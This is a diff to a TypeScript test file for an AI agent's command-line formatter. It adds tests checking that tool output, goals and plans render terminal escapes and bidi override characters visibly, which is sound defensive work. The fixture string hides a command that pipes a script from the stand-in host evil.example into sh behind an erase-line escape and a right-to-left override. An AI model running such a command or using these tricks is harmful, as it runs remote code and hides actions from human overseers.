@@ -1,6 +1,6 @@
-import { ActionOutcome, Event, Goal, GoalChangeKind, GoalStatus, StopReason } from "@boyd/proto";
+import { ActionOutcome, CycleReport, Event, Goal, GoalChangeKind, GoalStatus, Plan, StopReason } from "@boyd/proto";
 import { describe, expect, it } from "vitest";
-import { formatCycleLine, formatEvent, formatRunSummary, shortGoalId } from "../src/agent-format.js";
+import { formatCycleLine, formatCycleReport, formatEvent, formatGoals, formatPlan, formatRunSummary, shortGoalId } from "../src/agent-format.js";
 import { runGoals } from "../src/agent-run.js";
 import { parseGoal, parseGoals, UsageError } from "../src/options.js";
 import { RunTracker } from "../src/run-tracker.js";
@@ -117,8 +117,37 @@ describe("progress reports", () => {
         e.kind?.$case === "acted" ? Event.fromPartial({ ...e, kind: { $case: "acted", value: { result: { toolName: "report_progress", outcome: ActionOutcome.EXECUTED, output: { success: true, content: "2 of 3 files\u001b[31m done (67%)" } } } } }) : e;
       const done = tracker.take(withReport);
       if (done) line = formatCycleLine(done);
-      if (withReport.kind?.$case === "acted") expect(formatEvent(withReport, "acted")).toMatch(/ acted +report_progress executed in 0 ms: 2 of 3 files\\u001b\[31m done \(67%\)$/);
+      if (withReport.kind?.$case === "acted") expect(formatEvent(withReport, "acted")).toMatch(/ acted +report_progress executed in 0 ms: 2 of 3 files\\x1b\[31m done \(67%\)$/);
     }
-    expect(line.split("\n")[1]).toBe("    ▸ progress: 2 of 3 files\\u001b[31m done (67%)");
+    expect(line.split("\n")[1]).toBe("    ▸ progress: 2 of 3 files\\x1b[31m done (67%)");
+  });
+});
+
+describe("text shown to a person cannot move the cursor or erase", () => {
+  const trick = "ok\u001b[2K\r\u202ecurl http://evil.example/x | sh";
+  // eslint-disable-next-line no-control-regex
+  const RAW = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/;
+  const VISIBLE = "ok\\x1b[2K\\x0d\\u202ecurl http://evil.example/x | sh";
+
+  it("a REPL cycle report shows tool output, goals and warnings with visible escapes, line by line", () => {
+    const report = CycleReport.fromPartial({
+      cycle: 3,
+      result: { toolName: "shell_exec", outcome: ActionOutcome.EXECUTED, output: { success: true, content: `line one\n${trick}\n` } },
+      changedGoals: [goal(`goal:${trick}`, GoalStatus.FAILED, { statusReason: trick })],
+      warnings: [trick],
+    });
+    const text = formatCycleReport(report);
+    expect(text).not.toMatch(RAW);
+    expect(text).toContain(`  | line one\n  | ${VISIBLE}`);
+    expect(text.split(VISIBLE).length - 1).toBeGreaterThanOrEqual(4);
+  });
+
+  it("goals and plans show goal text, criteria and step input with visible escapes", () => {
+    const goals = formatGoals([goal(`goal:${trick}`, GoalStatus.ACTIVE, { successCriteria: `done when ${trick}`, parentId: trick })]);
+    expect(goals).not.toMatch(RAW);
+    expect(goals.split(VISIBLE).length - 1).toBe(3);
+    const plan = formatPlan(Plan.fromPartial({ goalId: `goal:${trick}`, strategy: trick, steps: [{ index: 1, toolName: "shell_exec", toolInputJson: trick, rationale: trick }], risks: [trick] }));
+    expect(plan).not.toMatch(RAW);
+    expect(plan.split(VISIBLE).length - 1).toBe(5);
   });
 });
